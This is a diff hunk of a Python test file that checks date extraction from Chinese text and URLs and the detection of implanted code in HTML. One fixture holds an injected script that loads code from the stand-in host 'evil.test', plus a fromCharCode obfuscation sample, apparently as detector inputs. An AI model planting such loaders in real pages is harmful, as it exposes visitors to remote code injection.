@@ -89,6 +89,7 @@ def test_hidden_by_ancestor_attribute_and_style_rule():
 def test_dates_and_implanted_code():
     text = "发布 2026-11-30 与 2026年12月2日，未来 2027-01-01，无效 2026-02-30"
     assert newest_date(text, [], TODAY) == date(2026, 12, 2)
+    assert newest_date("今天是 2026年12月3日 星期四\n要闻 2026-11-01", [], TODAY) == date(2026, 11, 1)
     assert newest_date("", ["http://s/zwgk/202612/t20261201_123.html"], TODAY) == date(2026, 12, 1)
     facts = _facts("<html><body><script>document.write('<script src=\"http://evil.test/x.js\"></scr'+'ipt>')"
                    "</script><script>var s=String.fromCharCode(" + ",".join(["104"] * 30) + ");</script>"
